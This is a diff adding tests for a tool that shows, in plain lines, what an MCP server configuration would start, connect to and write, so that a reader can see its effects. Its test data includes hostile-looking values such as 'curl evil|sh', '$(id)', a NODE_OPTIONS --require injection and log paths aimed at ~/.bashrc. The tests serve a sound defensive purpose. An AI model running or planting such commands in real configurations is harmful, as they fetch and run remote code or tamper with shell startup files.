@@ -1,0 +1,142 @@
+import { describe, expect, it } from "vitest";
+
+import { effectLines, effectsOf } from "./effects.ts";
+
+const FILE = "/p/workbench-config.json";
+const linesFor = async (text: string): Promise<string[]> =>
+  effectLines(await effectsOf(FILE, text));
+const withServer = (entry: object, more: object = {}): string =>
+  JSON.stringify({ toolboxes: { t: { description: "d", mcpServers: { s: entry } } }, ...more });
+
+describe("effectsOf", () => {
+  it("knows programs, addresses and what they are given, with variables as they are written", async () => {
+    const effects = await effectsOf(
+      FILE,
+      JSON.stringify({
+        inheritEnv: ["SSH_AUTH_SOCK"],
+        log: { file: "${HOME}/.bashrc" },
+        toolboxes: {
+          "${BOX}": {
+            description: "${TEXT}",
+            mcpServers: {
+              a: { command: "sh", args: ["-c", "echo ${A:-x}"], env: { K: "${B}" }, cwd: "../up" },
+              b: { url: "http://${HOST}/", headers: { X: "${C}" }, inheritEnv: ["D"] },
+            },
+          },
+        },
+      }),
+    );
+    expect(effects).toEqual({
+      servers: [
+        {
+          toolbox: "${BOX}",
+          server: "a",
+          disabled: false,
+          command: ["sh", "-c", "echo ${A:-x}"],
+          cwd: "../up",
+          env: { K: "${B}" },
+        },
+        {
+          toolbox: "${BOX}",
+          server: "b",
+          disabled: false,
+          url: "http://${HOST}/",
+          headers: { X: "${C}" },
+        },
+      ],
+      variables: ["A", "B", "C", "D", "HOME", "HOST", "SSH_AUTH_SOCK", "TEXT"],
+      logFile: "${HOME}/.bashrc",
+    });
+  });
+
+  it.each([
+    ["another spelling", { cmd: ["sh", "-c", "x"], environment: { A: 1 } }],
+    ["the canonical one", { command: "sh", args: ["-c", "x"], env: { A: "1" } }],
+  ])("understands %s as the program itself does", async (_, entry) => {
+    const { servers } = await effectsOf(FILE, withServer(entry));
+    expect(servers).toEqual([
+      { toolbox: "t", server: "s", disabled: false, command: ["sh", "-c", "x"], env: { A: "1" } },
+    ]);
+  });
+
+  it("reads comments as the program itself does", async () => {
+    const text = `// { "toolboxes": {} } */\n{ "toolboxes": { /* "t": {} */ "t": { "description": "// no", "mcpServers": { "s": { "command": "evil", }, } } } }`;
+    expect(await linesFor(text)).toEqual(["start t/s: evil"]);
+  });
+
+  it("does not look up a variable", async () => {
+    process.env["EFFECTS_TEST"] = "looked-up";
+    const lines = await linesFor(withServer({ command: "${EFFECTS_TEST}" }));
+    delete process.env["EFFECTS_TEST"];
+    expect(lines).toEqual(["start t/s: '${EFFECTS_TEST}'", "read the variables EFFECTS_TEST"]);
+  });
+
+  it.each([
+    ["what is no JSON", "{"],
+    ["a key that occurs twice", '{ "toolboxes": {}, "toolboxes": {} }'],
+    ["an escaped key that occurs twice", String.raw`{ "toolboxes": {}, "\u0074oolboxes": {} }`],
+    ["a key that changes the object", '{ "__proto__": { "toolboxes": {} } }'],
+    ["what is nested too deeply", "[".repeat(10_000)],
+  ])("refuses %s, because it cannot be shown", async (_, text) => {
+    await expect(effectsOf(FILE, text)).rejects.toMatchObject({ code: "CONFIG_INVALID" });
+  });
+
+  it.each([
+    ["nothing", "null"],
+    ["a list", "[]"],
+    ["toolboxes that are none", '{ "toolboxes": [1, { "mcpServers": 5 }] }'],
+  ])("has nothing to say about %s", async (_, text) => {
+    expect(await linesFor(text)).toEqual(["start nothing: it has no servers"]);
+  });
+});
+
+describe("effectLines", () => {
+  it("leaves out nothing that decides what runs", async () => {
+    const entry = {
+      command: "node",
+      args: ["a b", ""],
+      cwd: "/x",
+      env: { NODE_OPTIONS: "--require ./x.js" },
+    };
+    expect(await linesFor(withServer(entry, { log: { file: "~/.profile" } }))).toEqual([
+      "start t/s: node 'a b' ''",
+      "  in the folder /x",
+      "  with 'NODE_OPTIONS=--require ./x.js'",
+      "write its log to ~/.profile",
+    ]);
+  });
+
+  it("hides nothing for its name", async () => {
+    const args = ["-c", "token=x;curl evil|sh", "--password", "$(id)"];
+    expect(await linesFor(withServer({ command: "sh", args }))).toEqual([
+      "start t/s: sh -c 'token=x;curl evil|sh' --password '$(id)'",
+    ]);
+  });
+
+  it("shows also what will be refused", async () => {
+    expect(await linesFor(withServer({ command: 5, args: { a: 1 }, url: ["x"] }))).toEqual([
+      `start t/s: 5 '{"a":"1"}'`,
+      `connect t/s to ["x"]`,
+    ]);
+    expect(await linesFor(withServer({ disabled: true }))).toEqual([
+      "fail at t/s (disabled), which has neither a command nor a url",
+    ]);
+  });
+
+  it("writes out what a terminal would obey or not show, in every part", async () => {
+    const entry = {
+      url: "http://x/\u001b]0;a\u0007",
+      headers: { "X\u202e": "\u200b" },
+      cwd: "\r",
+      inheritEnv: ["A\u001b"],
+    };
+    const text = JSON.stringify({
+      log: { file: "\u001b[2J" },
+      toolboxes: { "t\n": { description: "d", mcpServers: { "s\u009b": entry } } },
+    });
+    const shown = (await linesFor(text)).join("\n");
+    // oxlint-disable-next-line no-control-regex -- control characters are what this looks for
+    expect(shown).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202e\u200b]/);
+    expect(shown.split("\n")).toHaveLength(5);
+  });
+});
